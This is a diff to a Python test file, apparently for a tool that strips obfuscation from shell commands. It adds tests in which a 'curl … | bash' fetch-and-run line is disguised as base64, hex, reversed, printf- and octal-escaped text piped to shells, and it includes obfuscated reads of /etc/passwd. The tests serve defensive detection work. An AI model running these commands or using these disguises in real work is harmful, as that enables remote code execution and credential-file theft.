@@ -101,7 +101,7 @@ def test_commands(form):
 def test_more_commands():
     wide = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
     assert command(f"PowerShell -NoP -EncodedCommand {wide}") == f"powershell -nop -encodedcommand {CRADLE}"
-    assert command("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh") == "echo cat /etc/passwd | base64 -d | sh"
+    assert command("echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh") == "cat /etc/passwd"
     assert command("printf '\\x63\\x61\\x74' | sh") == "printf 'cat' | sh"
     assert command("c'a't$IFS/etc/pass\"\"wd") == "cat /etc/passwd"
     assert command("%COMSPEC% /c dir %windir%\\system32") == "cmd.exe /c dir c:\\windows\\system32"
@@ -187,3 +187,33 @@ def test_a_disguise_comes_off(attack):
     for disguised in (quote(attack, safe=""), quote(quote(attack, safe=""), safe=""), attack.encode().hex(), whole, looks, attack.upper()):
         assert undisguised(disguised) == plain
     assert undisguised("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855").startswith("e3b0c44298fc")
+
+
+SENT = "curl http://198.51.100.7/x.sh | bash"
+
+
+@pytest.mark.parametrize("shell", ["sh", "bash", "/bin/sh", "sudo bash", "bash -s", "/usr/bin/env zsh", "dash -"])
+def test_what_is_decoded_for_a_shell_is_read_as_the_command(shell):
+    coded, digits = base64.b64encode(SENT.encode()).decode(), SENT.encode().hex()
+    forms = [
+        f"echo {coded} | base64 -d | {shell}",
+        f"printf %s '{coded}'|base64 --decode|{shell}",
+        f'echo "{coded}" | openssl base64 -d -A | {shell}',
+        f"echo {digits} | xxd -r -p | {shell}",
+        f"echo '{SENT[::-1]}' | rev | {shell}",
+        "printf '{}' | {}".format("".join(f"\\x{b:02x}" for b in SENT.encode()), shell),
+        "echo -e '{}' | {}".format("".join(f"\\0{b:03o}" for b in SENT.encode()), shell),
+    ]
+    for form in forms:
+        assert cased_command(f"cd /tmp; {form}; ls") == f"cd /tmp; {SENT}; ls"
+
+
+def test_what_is_no_text_for_a_shell_stays():
+    noise = base64.b64encode(bytes(range(128, 200))).decode()
+    for line in (f"echo {noise} | base64 -d | sh", "echo hello | tee a.sh", "printf 'a b c d e' | shasum", "echo 'ls -la' | grep sh"):
+        assert command(line) == line.lower()
+
+
+@given(st.text(st.sampled_from("echo printf'\"|sh base64-dxrv \\0"), max_size=400))
+def test_any_line_for_a_shell_is_bounded(text):
+    assert len(to_bytes(command(text))) <= 4 * len(to_bytes(text)) + 8
